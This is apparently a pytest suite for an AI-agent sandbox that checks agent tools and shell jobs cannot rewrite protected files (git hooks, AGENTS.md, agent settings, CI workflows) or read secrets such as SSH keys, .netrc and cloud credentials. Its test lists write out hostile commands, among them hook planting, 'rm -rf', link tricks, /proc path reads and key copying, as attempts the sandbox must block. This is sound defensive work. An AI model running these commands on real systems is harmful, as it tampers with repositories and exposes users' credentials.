    ("METIER_AUDIT", "rec.jsonl", "rec.jsonl"), ("METIER_STORE", "st/x.db", "st/x.db-wal"),
    ("METIER_STORE", "st/x.db", "st/x.db"), ("METIER_STORE", "st/x.db", "st/x.db-shm"),
    ("METIER_ENTERPRISE", "ent", "ent/s/SKILL.md"), ("METIER_CONFIG", "conf", "conf/keys/audit.ed25519"),
    ("METIER_CACHE", "cch", "cch/index"), ("METIER_STORE", "st/x.db", "st/x.db-journal"),
]  # fmt: skip


def own_place(home: Path, monkeypatch: pytest.MonkeyPatch, variable: str, place: str) -> Session:
    path = home / "project" / place
    monkeypatch.setenv(variable, f"sqlite:///{path}" if variable == "METIER_STORE" else str(path))
    if variable == "METIER_POLICY":
        write(path, "version: 1\n")
    if variable == "METIER_ENTERPRISE":
        return Library.discover(home / "project", cache=False).session(workspace=home / "project")
    return session_in(home / "project", home)


@pytest.mark.each(("variable", "place", "path"), OWN, every=2)
def test_what_decides_about_skills_is_not_written_by_a_tool(
    home: Path, monkeypatch: pytest.MonkeyPatch, variable: str, place: str, path: str
) -> None:
    restore(home)
    target = home / "project" / path
    with monkeypatch.context() as patch:
        for is_there, way in itertools.product((False, True), ("Write", "Edit")):
            if is_there and not target.exists():
                write(target, SKILL)
            session = own_place(home, patch, variable, place)
            WRITES[way](session, path)
            assert not target.exists() or not target.read_bytes().startswith(b"evil")
        assert around(session, ("apply_patch", v4a(f"*** Delete File: {path}"))) == []


@pytest.mark.each(
    ("variable", "place", "path", "is_there"),
    [(*one, is_there) for one in OWN for is_there in (False, True)],
    every=3,
)
def test_what_decides_about_skills_is_not_written_by_a_job(
    home: Path, monkeypatch: pytest.MonkeyPatch, variable: str, place: str, path: str, is_there: bool
) -> None:
    restore(home)
    target = home / "project" / path
    if is_there:
        write(target, SKILL)
    again = f"echo evil > {path}; rm -rf {place}; mv {place} m; mkdir -p $(dirname {path}); echo evil > {path}"
    with monkeypatch.context() as patch:
        session = own_place(home, patch, variable, place)
        if path.startswith(f"{place}-"):
            call(session, "Read", file_path="a.txt")  # the store is there, and what belongs to it is not
        with contextlib.suppress(MetierError):
            bash(session, again)
    assert not target.exists() or not target.read_bytes().startswith(b"evil")
    # SQLite itself takes a journal away that is none.
    assert target.exists() or not is_there or path.endswith("-journal")


# A second name, by a hard link that was there before, of what is protected.
SECOND = ["AGENTS.md", ".mcp.json", ".husky/pre-commit", ".git/config", ".git/hooks/pre-commit", "vs/tasks.json",
          ".github/workflows/ci.yml", "team.inc", "sub/.git/config", ".claude/settings.json"]  # fmt: skip


@pytest.mark.each(("way", "name"), [(("Bash", "script")[at % 2], name) for at, name in enumerate(SECOND)], every=3)
def test_a_second_name_of_a_protected_file_opens_nothing_to_a_job(home: Path, way: str, name: str) -> None:
    restore(home)
    for other in ("second.txt", "deep/second.txt"):
        os.link(home / "project" / name, home / "project" / other)
    before = judged(home)
    session = session_in(home / "project", home, runner=runner())
    WAYS[way](session, "echo evil >> second.txt; echo evil > deep/second.txt; chmod 777 second.txt")
    assert judged(home) == before


def test_a_second_name_of_a_protected_file_opens_nothing_to_a_tool(home: Path) -> None:
    for at, name in enumerate(SECOND):
        os.link(home / "project" / name, home / "project" / f"second{at}.txt")
    session, before = session_in(home / "project", home), judged(home)
    for at in range(len(SECOND)):
        for way in ("Write", "Edit"):
            WRITES[way](session, f"second{at}.txt")
        assert around(session, ("write_file", {"path": f"second{at}.txt"})) == []
    assert judged(home) == before


GRANTS: list[tuple[list[str], list[str], list[str]]] = [
    (
        [".git:rw"],
        [".git/hooks/x", ".git/config", ".git/CONFIG", ".git/HOOKS/x", ".git/config.worktree", ".git/commondir",
         ".git/gitdir", ".git/info/attributes", ".git/modules/mod/config", ".git/worktrees/wt/commondir", "mod/.git",
         ".git/rebase-merge/git-rebase-todo", ".git/sequencer/todo", "wt/.git", "new/.git", "sub/.git/hooks/x",
         "bare/config", "git-by-link/hooks/x", ".gitmodules", ".gitconfig", "team-hooks/x", "team.inc", ".githooks/x",
         ".github/workflows/x.yml", ".envrc"],
        [".git/index", ".git/refs/heads/topic", ".git/HEAD", ".git/objects/aa/bb", "docs/b.md"],
    ),
    (
        ["AGENTS.md:rw"],
        ["CLAUDE.md", ".agents/x", ".git/AGENTS.md", ".git/hooks/AGENTS.md", ".claude/skills/s/AGENTS.md", "lf"],
        ["AGENTS.md", "docs/AGENTS.md"],
    ),
    ([".git/hooks:rw", ".git/config:rw"], [".git/hooks/x", ".git/config", ".git/index"], []),
    (["*:rw", ".:rw", "hooks:rw"], [".git/hooks/x", ".envrc", "AGENTS.md"], ["docs/b.md"]),
    ([".git"], [".git/index", ".git/refs/heads/topic"], []),
    ([".vscode:rw"], [".envrc", ".idea/x"], []),
    ([".github/workflows:rw"], [".github/actions/x", ".github/copilot-instructions.md"], [".github/workflows/y.yml"]),
]  # fmt: skip


@pytest.mark.each(("grants", "closed", "open_"), GRANTS)
def test_a_grant_opens_its_name_and_nothing_beside_it(
    home: Path, grants: list[str], closed: list[str], open_: list[str]
) -> None:
    restore(home)
    (home / "project/lf").symlink_to(".envrc")
    (home / "project/wt/.git").unlink()  # whose repository is that of the whole
    try:
        policy = Policy(paths=grants)
    except MetierError:
        return  # it says so
    session = session_in(home / "project", home, policy=policy)
    codes = {path: call(session, "Write", file_path=path, content="x").code for path in (*closed, *open_)}
    assert codes == dict.fromkeys(closed, "protected-place") | dict.fromkeys(open_)


# Every third is quick: hooks, settings, and where a repository is elsewhere.
GRANTED_JOBS = [
    "echo evil > .git/hooks/x; mv .git/hooks .git/h; mkdir .git/hooks; echo evil > .git/hooks/x",
    "mv .git g; mkdir -p .git/hooks; echo evil > .git/hooks/x; cp -r g/* .git/",
    "echo evil > sub/.git/hooks/x; echo evil > sub/.git/config; echo evil > bare/config; echo evil > bare/hooks/x",
    "echo evil >> .git/config; git config core.pager evil; echo x > .git/config.worktree; ln -sf ../a.txt .git/config",
    "echo ../docs > .git/commondir; echo ../docs > .git/gitdir; echo '* filter=x' > .git/info/attributes",
    "mkdir .git/rebase-merge; echo 'exec evil' > .git/rebase-merge/git-rebase-todo; mkdir .git/sequencer",
    "echo 'gitdir: docs' > mod/.git; echo 'gitdir: docs' > wt/.git; echo evil > .git/modules/mod/config",
    "echo evil > team-hooks/x; echo evil > team.inc; echo evil > .gitmodules; echo evil > .githooks; echo evil > .envrc",
]


@pytest.mark.each("command", GRANTED_JOBS, every=3)
def test_a_job_with_the_grant_of_the_repository_changes_nothing_that_git_starts(home: Path, command: str) -> None:
    restore(home)
    opens = (".git/HEAD", ".git/refs", ".git/objects", ".git/index")
    session = session_in(home / "project", home, runner=runner(), policy=Policy(paths=[".git:rw"]))
    before = judged(home)
    bash(session, command)
    opened(home)
    assert {path: state for path, state in judged(home).items() if not any(one in path for one in opens)} == {
        path: state for path, state in before.items() if not any(one in path for one in opens)
    }


# What would show what is hidden; {secret} is each of them.
READS: list[tuple[str, dict[str, Any]]] = [
    ("Read", {"file_path": "{secret}"}),
    ("Read", {"file_path": "./notes/../{secret}"}),
    ("Read", {"file_path": "{home}/{secret}"}),
    ("Read", {"file_path": "whole/{secret}"}),
    ("Grep", {"pattern": "SECRET", "path": "{secret}", "output_mode": "content"}),
    ("Edit", {"file_path": "{secret}", "old_string": "x", "new_string": "y"}),
]
SEARCHES: list[tuple[str, dict[str, Any]]] = [
    ("Grep", {"pattern": "SECRET", "output_mode": "content"}),
    ("Grep", {"pattern": "SECRET", "glob": "*.key", "output_mode": "content"}),
    ("Grep", {"pattern": "SECRET", "path": "sshlink", "output_mode": "content"}),
    ("Glob", {"pattern": "**/id_*"}),
    ("Glob", {"pattern": ".ssh/*"}),
    ("Glob", {"pattern": ".s?h/*"}),
    ("Glob", {"pattern": "sshlink/*"}),
]
FOREIGN_READS: list[tuple[str, dict[str, Any]]] = [
    ("read_file", {"path": ".ssh/id_rsa"}),
    ("mcp__fs__read_text_file", {"path": "{home}/.ssh/id_rsa"}),
    ("read_multiple_files", {"paths": ["notes/a.md", ".netrc"]}),
    ("view", {"path": "sshlink/id_rsa"}),
    ("cat_file", {"file": ".aws/credentials"}),
    ("get_file_contents", {"path": "configuration/keys/audit.ed25519"}),
    ("load", {"path": "data/metier.db"}),
    ("read", {"uri": "file://{home}/.ssh/id_rsa"}),
    ("read", {"uri": "file://{home}/%2essh/id_rsa"}),
    ("list_directory", {"path": ".ssh"}),
    ("search_files", {"path": ".ssh", "pattern": "x"}),
    ("copy_file", {"source": ".ssh/id_rsa", "destination": "pub.txt"}),
    ("upload", {"path": ".ssh/id_rsa"}),
    ("head", {"file_path": ".netrc"}),
]
SHOWS = [
    "for f in {all}; do cat $f sshlink/id_rsa whole/$f; head -c9 {home}/$f; done",
    "grep -r SECRET . ; tar cf - . 2>/dev/null | grep -a SECRET; find . -type f -exec cat {{}} +",
    "mv .ssh s; cat s/id_rsa; cp -r .gnupg g; cat g/*/*; ln .netrc n; cat n; mv configuration c; cat c/mcp-token c/keys/*",
    "python3 -c \"import os; [print(open(os.path.join(a, n), errors='replace').read()) for a, _, ns in os.walk('.') for n in ns]\"",
    "cat /proc/self/root{home}/.ssh/id_rsa; cat /proc/1/root{home}/.netrc; cat /proc/*/cwd/.netrc; umount .ssh; cat .ssh/id_rsa",
    "cd /tmp; git init -q; git --work-tree={home} add -f .; git --work-tree={home} grep --cached SECRET",
]


@pytest.fixture
def links(home: Path) -> Path:
    """The home folder with links into it, as a workspace of its own."""
    (home / "sshlink").symlink_to(".ssh")
    (home / "whole").symlink_to(".")
    return home


@pytest.mark.covers("SEC-9")
def test_no_tool_shows_what_is_hidden(links: Path) -> None:
    session = session_in(links, links)
    tools = [(tool, filled(one, secret=secret, home=str(links))) for secret in SECRETS for tool, one in READS]
    for tool, arguments in (*tools, *SEARCHES):
        result = call(session, tool, **arguments)
        assert "canary" not in str(result) and "id_rsa" not in str(result.data), (tool, arguments)
    assert around(session, *((tool, filled(arguments, home=str(links))) for tool, arguments in FOREIGN_READS)) == []
    assert "mine" in str(call(session, "Read", file_path="notes/a.md"))


def test_no_tool_of_somebody_else_reads_what_is_hidden_by_the_name_of_a_file(home: Path) -> None:
    assert around(session_in(home, home), ("open_file", {"file_name": ".ssh/id_rsa"})) == []


@pytest.mark.xfail(strict=True, reason="docs/explanation/sandbox.md says so")
@pytest.mark.parametrize("way", ["Bash", pytest.param("script", marks=pytest.mark.slow)])
def test_no_job_shows_a_key_deep_in_its_workspace(home: Path, way: str) -> None:
    write(home / "project/deep/.ssh/id_rsa", "SECRET-canary")
    write(home / "project/deep/.netrc", "SECRET-canary")
    session = session_in(home / "project", home, runner=runner())
    assert "canary" not in WAYS[way](session, "cat deep/.ssh/id_rsa deep/.netrc")


@pytest.mark.covers("SEC-9")
@pytest.mark.each(("way", "command"), [(("Bash", "script")[at % 2], command) for at, command in enumerate(SHOWS)])
def test_no_job_shows_what_is_hidden(links: Path, way: str, command: str) -> None:
    shutil.rmtree(links / "backup", ignore_errors=True)
    command = command.format(all=" ".join(SECRETS), home=links)
    for folder, policy in ((links, Policy(paths=[f"{links}:rw"])), (links / "project", Policy())):
        with contextlib.suppress(MetierError):
            shown = WAYS[way](session_in(folder, links, runner=runner(), policy=policy), command)
            assert "canary" not in shown
